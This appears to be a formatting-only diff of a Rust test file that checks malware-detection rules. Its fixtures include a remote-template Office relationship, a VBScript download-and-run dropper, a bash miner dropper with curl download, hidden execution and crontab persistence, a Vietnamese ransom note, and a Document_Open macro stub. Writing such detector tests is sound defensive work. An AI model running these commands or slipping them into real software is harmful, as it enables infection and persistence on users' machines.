@@ -48,7 +48,9 @@ const CAUGHT: &[(&str, &[&str])] = &[
     ),
     (
         "office_remote_template",
-        &["<?xml version=\"1.0\"?><Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://example.invalid/a.dotm\" TargetMode=\"External\"/></Relationships>"],
+        &[
+            "<?xml version=\"1.0\"?><Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://example.invalid/a.dotm\" TargetMode=\"External\"/></Relationships>",
+        ],
     ),
     (
         "script_powershell_hidden",
@@ -59,11 +61,15 @@ const CAUGHT: &[(&str, &[&str])] = &[
     ),
     (
         "script_host_dropper",
-        &["Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.open \"GET\", \"http://example.invalid/a\", False\nSet s = CreateObject(\"ADODB.Stream\"): s.SaveToFile f\nCreateObject(\"WScript.Shell\").Run f, 0"],
+        &[
+            "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.open \"GET\", \"http://example.invalid/a\", False\nSet s = CreateObject(\"ADODB.Stream\"): s.SaveToFile f\nCreateObject(\"WScript.Shell\").Run f, 0",
+        ],
     ),
     (
         "script_shell_miner_dropper",
-        &["#!/bin/bash\nunset HISTFILE\ncurl -fsSL http://example.invalid/x -o /tmp/x; chmod +x /tmp/x; /tmp/x &\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n"],
+        &[
+            "#!/bin/bash\nunset HISTFILE\ncurl -fsSL http://example.invalid/x -o /tmp/x; chmod +x /tmp/x; /tmp/x &\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n",
+        ],
     ),
 ];
 
@@ -97,7 +103,8 @@ fn every_rule_matches_what_it_is_for() {
             assert!(found(file.as_bytes()).contains(&(*rule).to_owned()), "{rule} does not match {file}");
         }
     }
-    let wide: Vec<u8> = "Tệp và dữ liệu đã bị mã hóa, gửi bitcoin, hỏi telegram".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let wide: Vec<u8> =
+        "Tệp và dữ liệu đã bị mã hóa, gửi bitcoin, hỏi telegram".encode_utf16().flat_map(u16::to_le_bytes).collect();
     assert_eq!(found(&wide), ["ransom_note_vi"]);
     let mut document = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
     document.extend_from_slice(b"\0\0_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0 Attribut\0 Sub Document_Open() \x03 CreateObject(\"WScript.Shell\") ");
